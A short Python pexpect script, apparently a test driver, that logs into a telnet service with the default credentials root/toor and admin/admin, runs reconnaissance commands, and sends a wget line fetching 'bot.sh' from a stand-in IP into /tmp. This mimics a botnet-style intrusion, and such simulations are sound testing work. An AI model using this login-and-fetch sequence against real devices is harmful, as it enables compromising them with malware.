"""Drives Debian's telnet client through a failed and a successful login and a few commands (pexpect).

Usage: telnet_session.py HOST PORT  -- prints what the shell answered, exits non-zero on any mismatch.
"""
import sys

import pexpect

host, port = sys.argv[1], sys.argv[2]
child = pexpect.spawn("telnet", [host, port], encoding="utf-8", timeout=30)
child.expect("login: ")
child.sendline("root")
child.expect("Password: ")
child.sendline("toor")
child.expect("Login incorrect")
child.expect("login: ")
child.sendline("admin")
child.expect("Password: ")
child.sendline("admin")
child.expect(r"\$ ")
child.sendline("uname -a; id")
child.expect(r"\$ ")
print(child.before)
child.sendline("wget http://198.51.100.7/bot.sh -O /tmp/bot.sh")
child.expect(r"\$ ")
print(child.before)
child.sendline("exit")
child.expect(pexpect.EOF)
